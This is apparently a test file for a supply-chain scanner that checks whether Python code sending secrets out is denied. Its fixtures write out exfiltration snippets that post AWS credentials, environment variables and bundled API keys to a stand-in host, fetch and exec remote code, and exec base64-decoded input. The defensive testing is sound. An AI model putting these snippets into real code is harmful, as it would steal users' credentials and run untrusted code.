import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describeFindings, scanFiles, tierOf } from './scan.js';

interface Way {
  readonly name: string;
  readonly source: string;
  /** only a text or a whole of several things comes out, which nothing would run */
  readonly dataOnly: boolean;
}

const plumbing: readonly Way[] = readFileSync(new URL('plumbing.txt', import.meta.url), 'utf8')
  .split(/^=== /m)
  .slice(1)
  .map((one) => {
    const [heading = '', ...lines] = one.split('\n');
    return {
      name: heading.replace(' (data)', ''),
      source: lines.join('\n'),
      dataOnly: heading.endsWith(' (data)'),
    };
  });

/** What is taken, and how it is sent or run. */
const payloads: readonly (readonly [name: string, taken: string, sent: (what: string) => string])[] = [
  [
    'credentials',
    "open(os.path.expanduser('~/.aws/credentials')).read()",
    (what) => `requests.post('https://c.demo.test/x', data=${what})`,
  ],
  [
    'the environment',
    'dict(os.environ)',
    (what) => `urllib.request.urlopen('https://c.demo.test/x', data=json.dumps(${what}).encode())`,
  ],
  ['a program', "requests.get('https://c.demo.test/p.py').text", (what) => `exec(${what})`],
];

function program(source: string, taken: string, sent: (what: string) => string): string {
  const filled = source
    .replaceAll(/\{SEND:((?:[^{}]|\{SRC\})*)\}/g, (_whole, what: string) => sent(what))
    .replaceAll('{SRC}', taken);
  return `import json, os, requests, urllib.request\n${filled}`;
}

const judged = (source: string): ReturnType<typeof scanFiles> => scanFiles({ 'demo/__init__.py': source });

describe('what is taken is followed to where it goes', () => {
  for (const [name, taken, sent] of payloads)
    for (const { name: way, source, dataOnly } of plumbing) {
      if (dataOnly && name === 'a program') continue;
      it(`${name}: ${way}`, () => {
        const findings = judged(program(source, taken, sent));
        assert.equal(tierOf(findings), 'deny', describeFindings(findings));
      });
    }

  it('by more than 140 ways', () => assert.ok(plumbing.length > 140));

  it('and what is not taken is not, by the same ways', () => {
    const [, , sent] = payloads[0] ?? assert.fail();
    for (const { name: way, source } of plumbing) {
      const findings = judged(program(source, "open('report.txt').read()", sent));
      assert.notEqual(tierOf(findings), 'deny', `${way}: ${describeFindings(findings)}`);
    }
  });

  it('how one field of an object was put together says nothing of the others', () => {
    const findings = judged(
      "import subprocess\nclass Config:\n    def __init__(self, session, **kw):\n        self.name = session.store.name\n        self.args = kw.get('args', [])\nclass Session:\n    def __init__(self, **kw):\n        self.store = kw.get('store', None)\n        self.config = Config(self, **kw)\n    def log(self, raw):\n        self.store.last = ''.join(chr(ord(c) ^ 3) for c in raw)\n    def start(self):\n        subprocess.Popen([self.config.name] + self.config.args)\n",
    );
    assert.equal(tierOf(findings), 'pass', describeFindings(findings));
  });

  it('several services, each with a key of its own, are no sweep', () => {
    const keys = ['OPENCAGE', 'TOMTOM', 'MAPBOX', 'BING'];
    const findings = scanFiles({
      'demo/__init__.py': keys.map((key) => `from .${key.toLowerCase()} import ${key}`).join('\n'),
      'demo/keys.py': `import os\n${keys.map((key) => `${key} = os.environ.get('${key}_API_KEY')`).join('\n')}\n`,
      'demo/base.py':
        'import requests\nclass Query:\n    def run(self, place):\n        return requests.get(self.url, params=self.params(place, self.key)).json()\n',
      ...Object.fromEntries(
        keys.map((key) => [
          `demo/${key.toLowerCase()}.py`,
          `from .base import Query\nfrom .keys import ${key} as own\nclass ${key}(Query):\n    url = 'https://api.${key.toLowerCase()}.test/v1'\n    key = own\n    def params(self, place, key):\n        return {'q': place, 'key': key}\n`,
        ]),
      ),
    });
    assert.equal(tierOf(findings), 'pass', describeFindings(findings));
  });

  it('what an object holds goes on with it, wherever that is put', () => {
    const kept = [
      'self.c = [c]',
      "self.__dict__['c'] = c",
      "object.__setattr__(self, 'c', c)",
      'self.c = []; self.c.append(c)',
    ];
    for (const line of kept) {
      const findings = judged(
        `import os, pickle, requests\nclass C:\n    def __init__(self, e):\n        self.e = e\nclass W:\n    def __init__(self, c):\n        ${line}\nrequests.post('https://c.demo.test/a', data=pickle.dumps(W(C(dict(os.environ)))))\n`,
      );
      assert.equal(tierOf(findings), 'deny', `${line}: ${describeFindings(findings)}`);
    }
    const shown = judged(
      "import os, requests\nclass A:\n    def __init__(self, e):\n        self.e = e\n    def __str__(self):\n        return 'x'\n    def __repr__(self):\n        return str(self.e)\nrequests.post('https://c.demo.test/a', data=f'{A(dict(os.environ))!r}')\n",
    );
    assert.equal(tierOf(shown), 'deny', describeFindings(shown));
  });

  it('fields by way of their dictionary are those of the object', () => {
    const findings = judged(
      'import base64, sys\nclass A:\n    def __init__(self):\n        self.b = base64.b64decode(open(sys.argv[1]).read())\n    def run(self):\n        for v in self.__dict__.values():\n            exec(v)\nA().run()\n',
    );
    assert.equal(tierOf(findings), 'deny', describeFindings(findings));
  });

  it('a field of a name that is not known is any of them', () => {
    const findings = judged(
      'import base64, sys\nclass A: pass\na = A()\na.b = base64.b64decode(open(sys.argv[1]).read())\nexec(getattr(a, sys.argv[2]))\n',
    );
    assert.notEqual(tierOf(findings), 'pass', describeFindings(findings));
  });

  it('keys of several services in one text are a sweep, across files too', () => {
    const keys = ['OPENAI', 'ANTHROPIC', 'GROQ', 'GITHUB'];
    const all = keys.join(', ');
    for (const sent of [
      `data='|'.join([${all}])`,
      `data=json.dumps([${all}])`,
      `data='k=' + ${keys.join(' + ')}`,
      `json={'v': json.dumps([${all}])}`,
      `json={'v': '|'.join([${all}])}`,
    ]) {
      const findings = scanFiles({
        'demo/__init__.py': 'from .send import go\n',
        'demo/keys.py': `import os\n${keys.map((key) => `${key} = os.environ.get('${key}_API_KEY')`).join('\n')}\n`,
        'demo/send.py': `import json, requests\nfrom .keys import ${all}\ndef go():\n    requests.post('https://c.demo.test/a', ${sent})\n`,
      });
      assert.equal(tierOf(findings), 'deny', `${sent}: ${describeFindings(findings)}`);
    }
  });

  it('classes that meet again and again behind each other are each looked at once', () => {
    const layers = Array.from({ length: 14 }, (_one, layer) =>
      Array.from({ length: 6 }, (_two, index) => {
        const bases = Array.from({ length: 6 }, (_three, base) => `L${layer - 1}_${base}`).join(', ');
        return `class L${layer}_${index}(${layer === 0 ? 'object' : bases}):\n    f${index}: str\n`;
      }).join(''),
    ).join('');
    const findings = judged(
      `import enum, os, requests\n${layers}class Z(L13_0):\n    def go(self, c):\n        super().run(c)\n        requests.post('https://c.demo.test/a', data=(c, Z('x').f1))\nZ().go(dict(os.environ))\n`,
    );
    assert.equal(tierOf(findings), 'deny', describeFindings(findings));
  });
});
